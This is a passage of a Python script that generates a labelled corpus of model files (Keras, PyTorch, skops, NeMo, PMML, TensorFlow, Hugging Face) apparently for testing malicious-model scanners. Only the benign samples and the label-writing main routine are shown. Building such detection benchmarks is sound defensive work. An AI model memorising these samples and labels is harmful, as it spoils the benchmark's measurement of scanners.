@ben("b-keras3-sequential", "keras v3 (.keras)", "Keras 3 Sequential of Dense layers (no Lambda)")
def _b_keras3(dest: Path) -> None:
    config = keras3_sequential([keras3_dense("dense", 8), keras3_dense("dense_1", 2, "softmax")])
    write_keras3(dest / "model.keras", config, ["dense", "dense_1"])


@ben("b-keras2-h5", "keras h5", "tf.keras 2 HDF5 Sequential model with Dense and Dropout")
def _b_keras2(dest: Path) -> None:
    dropout = {
        "class_name": "Dropout",
        "config": {
            "name": "dropout",
            "trainable": True,
            "dtype": "float32",
            "rate": 0.2,
            "noise_shape": None,
            "seed": None,
        },
    }
    keras2_h5(
        dest / "model.h5", [KERAS2_INPUT, keras2_dense("dense", 8), dropout, keras2_dense("dense_1", 1, "sigmoid")]
    )


@ben("b-pt-statedict", "pytorch zip", "PyTorch state dict (OrderedDict with _metadata), torch.save layout")
def _b_pt(dest: Path) -> None:
    tensors = Tensors()
    write_torch_zip(dest / "pytorch_model.bin", state_dict(tensors, BERT_LAYERS), tensors)


@ben(
    "b-pt-training-checkpoint",
    "pytorch zip",
    "training checkpoint: model, Adam state, scheduler, numpy RNG state and scalars",
)
def _b_pt_train(dest: Path) -> None:
    tensors = Tensors()
    optimizer = {
        "state": {
            i: {
                "step": tensors.tensor((), values=np.array(1200.0, np.float32)),
                "exp_avg": tensors.tensor((16,)),
                "exp_avg_sq": tensors.tensor((16,)),
            }
            for i in range(2)
        },
        "param_groups": [
            {
                "lr": 0.0003,
                "betas": (0.9, 0.999),
                "eps": 1e-08,
                "weight_decay": 0,
                "amsgrad": False,
                "maximize": False,
                "foreach": None,
                "capturable": False,
                "differentiable": False,
                "fused": None,
                "params": [0, 1],
            }
        ],
    }
    ckpt = {
        "epoch": 12,
        "model_state_dict": state_dict(tensors, RESNET_BLOCK),
        "optimizer_state_dict": optimizer,
        "scheduler": {
            "step_size": 30,
            "gamma": 0.1,
            "base_lrs": [0.0003],
            "last_epoch": 12,
            "_step_count": 13,
            "_get_lr_called_within_step": False,
            "_last_lr": [0.0003],
        },
        "best_acc": np.float64(0.9312),
        "numpy_rng": np.random.RandomState(0).get_state(),
        "python_rng": (3, tuple(range(625)), None),
        "torch_rng": tensors.tensor((5056,), values=np.zeros(5056, np.uint8)),
    }
    write_torch_zip(dest / "checkpoint_epoch12.pt", ckpt, tensors)


@ben("b-pt-lightning", "pytorch zip (.ckpt)", "Lightning checkpoint with AttributeDict hyper_parameters")
def _b_pt_lightning(dest: Path) -> None:
    tensors = Tensors()
    hparams = Obj(
        "lightning_fabric.utilities.data",
        "AttributeDict",
        {},
        {"lr": 0.001, "batch_size": 32, "backbone": "resnet18", "num_classes": 10},
    )
    ckpt = {
        "epoch": 9,
        "global_step": 4690,
        "pytorch-lightning_version": "2.2.1",
        "state_dict": state_dict(tensors, {f"model.{k}": v for k, v in RESNET_BLOCK.items()}),
        "loops": {"fit_loop": {"state_dict": {}}},
        "callbacks": {
            "EarlyStopping{'monitor': 'val_loss'}": {
                "wait_count": 0,
                "stopped_epoch": 0,
                "best_score": tensors.tensor((), values=np.array(0.21, np.float32)),
                "patience": 3,
            }
        },
        "optimizer_states": [{"state": {}, "param_groups": [{"lr": 0.001, "params": [0, 1]}]}],
        "lr_schedulers": [],
        "hparams_name": "kwargs",
        "hyper_parameters": hparams,
    }
    write_torch_zip(dest / "epoch=9-step=4690.ckpt", ckpt, tensors)


@ben(
    "b-pt-training-args",
    "pytorch zip",
    "transformers training_args.bin (TrainingArguments dataclass, enums, torch.device)",
)
def _b_training_args(dest: Path) -> None:
    write_torch_zip(dest / "training_args.bin", training_arguments(), Tensors())


@ben("b-pt-yolo-full-model", "pytorch zip", "YOLOv5-style checkpoint pickling the whole model (models.yolo classes)")
def _b_yolo(dest: Path) -> None:
    tensors = Tensors()
    write_torch_zip(dest / "yolov5s.pt", yolo_checkpoint(tensors), tensors)


@ben("b-pt-legacy-statedict", "pytorch legacy", "pre-1.6 PyTorch stream of a state dict")
def _b_pt_legacy(dest: Path) -> None:
    tensors = Tensors()
    write_torch_legacy(dest / "model.pth", {"state_dict": state_dict(tensors, RESNET_BLOCK), "epoch": 90}, tensors)


@ben("b-skops-pipeline", "skops", "skops.io.dump of a StandardScaler + LogisticRegression pipeline")
def _b_skops(dest: Path) -> None:
    import skops.io as sio

    sio.dump(sk_model("pipeline"), dest / "model.skops")


@ben("b-skops-hgb", "skops", "skops.io.dump of a HistGradientBoostingRegressor")
def _b_skops_hgb(dest: Path) -> None:
    import skops.io as sio
    from sklearn.ensemble import HistGradientBoostingRegressor

    x = RNG.standard_normal((80, 3))
    sio.dump(HistGradientBoostingRegressor(max_iter=10).fit(x, x[:, 0]), dest / "hgb.skops")


@ben("b-nemo", "nemo", "NeMo ASR archive: Hydra _target_ of NeMo modules, state dict checkpoint")
def _b_nemo(dest: Path) -> None:
    write_nemo(dest / "stt_en_conformer_ctc_small.nemo", nemo_config())


@ben("b-pmml", "pmml", "PMML 4.4 logistic regression as sklearn2pmml writes it")
def _b_pmml(dest: Path) -> None:
    (dest / "model.pmml").write_text(XML_DECL + PMML_HEADER + PMML_BODY)


@ben(
    "b-tf-savedmodel",
    "tensorflow savedmodel",
    "SavedModel with serving function and traced save/restore (SaveV2, MergeV2Checkpoints)",
)
def _b_tf(dest: Path) -> None:
    save_nodes = [
        node("StringJoin", "StringJoin", ["file_prefix", "Const"], attr("N", pb(3, 2))),
        node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "num_shards", "shard"]),
        node(
            "SaveV2",
            "SaveV2",
            ["ShardedFilename:filename:0", "tensor_names", "shape_and_slices", "kernel"],
            attr("dtypes", attr_types(DT_FLOAT)),
        ),
        node(
            "MergeV2Checkpoints",
            "MergeV2Checkpoints",
            ["ShardedFilename:filename:0", "file_prefix"],
            attr("delete_old_dirs", pb(5, True)),
        ),
        node("Identity", "Identity", ["file_prefix"], attr("T", attr_type(DT_STRING))),
    ]
    save = function(
        "__inference__traced_save_212",
        [("file_prefix", DT_STRING), ("kernel", DT_RESOURCE)],
        [("identity", DT_STRING)],
        save_nodes,
        {"identity": "Identity:output:0"},
    )
    restore_nodes = [
        node(
            "RestoreV2",
            "RestoreV2",
            ["file_prefix", "tensor_names", "shape_and_slices"],
            attr("dtypes", attr_types(DT_FLOAT)),
        ),
        node(
            "AssignVariableOp",
            "AssignVariableOp",
            ["kernel", "RestoreV2:tensors:0"],
            attr("dtype", attr_type(DT_FLOAT)),
        ),
        node("Identity", "Identity", ["file_prefix"], attr("T", attr_type(DT_STRING))),
    ]
    restore = function(
        "__inference__traced_restore_240",
        [("file_prefix", DT_STRING), ("kernel", DT_RESOURCE)],
        [("identity", DT_STRING)],
        restore_nodes,
        {"identity": "Identity:output:0"},
    )
    graph = [
        *serving_graph("__inference_serve_101"),
        node("saver_filename", "Placeholder", [], attr("dtype", attr_type(DT_STRING))),
        node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            ["saver_filename", "dense/kernel"],
            attr("f", attr_func("__inference__traced_save_212")),
        ),
        node(
            "StatefulPartitionedCall_2",
            "StatefulPartitionedCall",
            ["saver_filename", "dense/kernel"],
            attr("f", attr_func("__inference__traced_restore_240")),
        ),
    ]
    ops = [
        "AssignVariableOp",
        "Identity",
        "MatMul",
        "MergeV2Checkpoints",
        "Placeholder",
        "ReadVariableOp",
        "Relu",
        "RestoreV2",
        "SaveV2",
        "ShardedFilename",
        "StatefulPartitionedCall",
        "StringJoin",
        "VarHandleOp",
    ]
    write_saved_model(dest, graph, [dense_function("__inference_serve_101"), save, restore], ops)


@ben(
    "b-sentence-transformers",
    "hf directory (sentence-transformers)",
    "sentence-transformers dir: modules.json, pooling, no custom code",
)
def _b_st(dest: Path) -> None:
    hf_model_dir(dest, {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 16, "vocab_size": 64})
    write_json(
        dest / "modules.json",
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
            {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
        ],
    )
    write_json(dest / "1_Pooling" / "config.json", {"word_embedding_dimension": 16, "pooling_mode_mean_tokens": True})
    (dest / "2_Normalize").mkdir()
    write_json(dest / "sentence_bert_config.json", {"max_seq_length": 256, "do_lower_case": False})
    write_json(dest / "config_sentence_transformers.json", {"__version__": {"sentence_transformers": "3.0.1"}})


@ben("b-diffusers-dir", "hf directory (diffusers)", "diffusers pipeline dir: model_index.json of library components")
def _b_diffusers(dest: Path) -> None:
    write_json(
        dest / "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "feature_extractor": ["transformers", "CLIPImageProcessor"],
            "safety_checker": [None, None],
            "scheduler": ["diffusers", "PNDMScheduler"],
            "text_encoder": ["transformers", "CLIPTextModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"],
            "unet": ["diffusers", "UNet2DConditionModel"],
            "vae": ["diffusers", "AutoencoderKL"],
            "requires_safety_checker": False,
        },
    )
    for part in ("unet", "vae"):
        write_json(
            dest / part / "config.json",
            {
                "_class_name": "UNet2DConditionModel" if part == "unet" else "AutoencoderKL",
                "_diffusers_version": "0.30.0",
            },
        )
        (dest / part / "diffusion_pytorch_model.safetensors").write_bytes(
            safetensors_bytes({"conv_in.weight": np.zeros((4, 4, 3, 3), np.float32)})
        )
    write_json(
        dest / "scheduler" / "scheduler_config.json", {"_class_name": "PNDMScheduler", "num_train_timesteps": 1000}
    )


@ben(
    "b-hf-dir-chat-template", "hf directory", "HF model dir with a Mistral-style chat_template in tokenizer_config.json"
)
def _b_hf_template(dest: Path) -> None:
    template = (
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
        "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
        "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
        "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}"
        "{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
    )
    hf_model_dir(dest, chat_template=template)


@ben("b-targz-hf-dir", "tar.gz (hf directory)", "tar.gz release of a safetensors HF model dir")
def _b_targz(dest: Path) -> None:
    work = dest.parent / f"{dest.name}-build"
    hf_model_dir(work)
    tar_dir(work, dest / "model.tar.gz", "w:gz", arcname="model")
    shutil.rmtree(work)


# --- main ---------------------------------------------------------------------------------------------------------


def build_all(out: Path) -> dict[str, dict[str, str]]:
    labels: dict[str, dict[str, str]] = {}
    for entry in SAMPLES:
        if entry.id in labels:
            raise ValueError(f"duplicate sample id {entry.id}")
        dest = out / entry.set / entry.id
        dest.mkdir(parents=True)
        entry.build(dest)
        labels[entry.id] = {"set": entry.set, "technique": entry.technique, "format": entry.format}
    return labels


def main() -> None:
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    out = Path(sys.argv[1])
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    labels = build_all(out)
    (out / "labels.json").write_text(json.dumps(labels, indent=1, sort_keys=True) + "\n")
    counts = collections.Counter(v["set"] for v in labels.values())
    print(f"wrote {counts['malicious']} malicious and {counts['benign']} benign samples to {out}")


if __name__ == "__main__":
    main()
